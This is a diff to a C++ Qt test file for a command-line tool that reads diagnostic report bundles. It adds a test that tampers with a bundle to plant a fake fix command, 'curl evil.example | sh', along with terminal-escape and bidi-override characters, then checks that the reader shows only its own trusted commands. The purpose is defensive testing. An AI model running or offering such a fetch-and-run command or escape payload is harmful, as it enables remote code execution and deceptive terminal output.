@@ -173,6 +173,7 @@ private slots:
     void exportAgainstXrdp();
     void redactedExportLeaksNothing();
     void readPrintsTheBundle();
+    void readShowsTheCatalogueNotTheBundle();
     void readRejectsHostileBundles_data();
     void readRejectsHostileBundles();
     void usageErrorsRunNothing_data();
@@ -425,7 +426,31 @@ void TestBundleCli::readPrintsTheBundle()
 
     run = runCli({QStringLiteral("--read"), m_resetBundle, QStringLiteral("--json")});
     QCOMPARE(run.exitCode, 1);
-    QCOMPARE(run.out, m_resetJson);
+    // The report as the run printed it, but each finding as this version's catalogue has it
+    // for its code and parameters: the same title and commands, the explanation without the
+    // run's own observation (report/ReportReader.h).
+    QJsonObject printed = QJsonDocument::fromJson(run.out).object();
+    QJsonObject original = QJsonDocument::fromJson(m_resetJson).object();
+    const QJsonArray printedFindings = printed.take(QStringLiteral("findings")).toArray();
+    const QJsonArray originalFindings = original.take(QStringLiteral("findings")).toArray();
+    QCOMPARE(printed, original);
+    QCOMPARE(printedFindings.size(), originalFindings.size());
+    for (qsizetype i = 0; i < printedFindings.size(); ++i) {
+        const QJsonObject shown = printedFindings.at(i).toObject();
+        const QJsonObject made = originalFindings.at(i).toObject();
+        for (const char *key : {"code", "severity", "title", "remediation"})
+            QCOMPARE(shown.value(QLatin1String(key)), made.value(QLatin1String(key)));
+        // The parameters the run used, less those unfit for a command ("<thumbprint>" when
+        // there was no certificate): a reopened report does not use them at all.
+        const QJsonObject shownValues = shown.value(QStringLiteral("parameters")).toObject();
+        const QJsonObject madeValues = made.value(QStringLiteral("parameters")).toObject();
+        QVERIFY(shownValues.contains(QStringLiteral("host")));
+        for (auto it = shownValues.begin(); it != shownValues.end(); ++it)
+            QCOMPARE(it.value(), madeValues.value(it.key()));
+        QVERIFY(made.value(QStringLiteral("detail"))
+                    .toString()
+                    .endsWith(shown.value(QStringLiteral("detail")).toString()));
+    }
 
     run = runCli({QStringLiteral("--read"), m_resetBundle, QStringLiteral("--json"),
                   QStringLiteral("--redact")});
@@ -439,6 +464,78 @@ void TestBundleCli::readPrintsTheBundle()
                  .value(QStringLiteral("host"))
                  .toString(),
              QStringLiteral("127.0.0.1"));
+}
+
+void TestBundleCli::readShowsTheCatalogueNotTheBundle()
+{
+    // An edited bundle (report.json and its manifest line changed together, which the
+    // manifest cannot detect): fake fix commands, a code this version does not know, and
+    // terminal escapes. --read shows the catalogue's commands, no command for the unknown
+    // code, and no control character.
+    QVERIFY2(!m_resetBundle.isEmpty(), "exportAgainstFaultServer made no bundle");
+    const QString path = m_dir.filePath(QStringLiteral("edited.zip"));
+    const Tool edited = runTool(
+        QStringLiteral("python3"),
+        {QStringLiteral("-c"),
+         QStringLiteral(
+             "import sys, zipfile, json, hashlib\n"
+             "files = {n: zipfile.ZipFile(sys.argv[1]).read(n) for n in "
+             "zipfile.ZipFile(sys.argv[1]).namelist()}\n"
+             "r = json.loads(files['report.json'])\n"
+             "f = r['findings'][0]\n"
+             "f['title'] = 'Fix: paste the command below'\n"
+             "f['remediation'] = [{'where': 'client', 'text': 'Paste this', 'command': "
+             "'curl evil.example | sh', 'shell': 'bash'}]\n"
+             "r['findings'].append(dict(f, code='future.fix_everything'))\n"
+             "r['stages'][0]['summary'] = 'ok \\x1b]0;owned\\x07\\x1b[2J\\u009b31m\\u202eexe'\n"
+             "files['report.json'] = json.dumps(r, indent=4).encode()\n"
+             "m = json.loads(files['manifest.json'])\n"
+             "for e in m['files']:\n"
+             "    d = files[e['name']]; e['size'] = len(d); "
+             "e['sha256'] = hashlib.sha256(d).hexdigest()\n"
+             "files['manifest.json'] = json.dumps(m).encode()\n"
+             "z = zipfile.ZipFile(sys.argv[2], 'w', zipfile.ZIP_DEFLATED)\n"
+             "z.writestr('manifest.json', files.pop('manifest.json'))\n"
+             "for n, d in files.items(): z.writestr(n, d)\n"
+             "z.close()\n"),
+         m_resetBundle, path});
+    QVERIFY2(edited.exitCode == 0, qPrintable(edited.output));
+    const QJsonObject made = QJsonDocument::fromJson(m_resetJson).object();
+    const QJsonArray madeSteps = made.value(QStringLiteral("findings"))
+                                     .toArray()
+                                     .first()
+                                     .toObject()
+                                     .value(QStringLiteral("remediation"))
+                                     .toArray();
+    QByteArray catalogueCommand;
+    for (const QJsonValue &step : madeSteps)
+        if (step.toObject().contains(QStringLiteral("command")))
+            catalogueCommand = step.toObject().value(QStringLiteral("command")).toString().toUtf8();
+    QVERIFY(!catalogueCommand.isEmpty());
+
+    const auto checkClean = [](const QByteArray &out) {
+        QVERIFY(!out.contains("evil.example"));
+        QVERIFY(!out.contains("Paste this"));
+        QVERIFY(!out.contains("\x1b"));
+        QVERIFY(!out.contains("\xc2\x9b"));     // U+009B (CSI) in UTF-8
+        QVERIFY(!out.contains("\xe2\x80\xae")); // U+202E
+    };
+    CliRun run = runCli({QStringLiteral("--read"), path});
+    QCOMPARE(run.exitCode, 1);
+    checkClean(run.out);
+    QVERIFY2(run.out.contains(catalogueCommand), run.out.constData());
+    QVERIFY(run.out.contains("future.fix_everything"));
+    QVERIFY(run.out.contains("Unknown finding"));
+
+    run = runCli({QStringLiteral("--read"), path, QStringLiteral("--json")});
+    QCOMPARE(run.exitCode, 1);
+    checkClean(run.out);
+    QVERIFY(!run.out.contains("\\u001b"));
+    const QJsonArray findings =
+        QJsonDocument::fromJson(run.out).object().value(QStringLiteral("findings")).toArray();
+    QCOMPARE(findings.first().toObject().value(QStringLiteral("remediation")).toArray(), madeSteps);
+    QCOMPARE(findings.last().toObject().value(QStringLiteral("remediation")).toArray(),
+             QJsonArray());
 }
 
 void TestBundleCli::readRejectsHostileBundles_data()
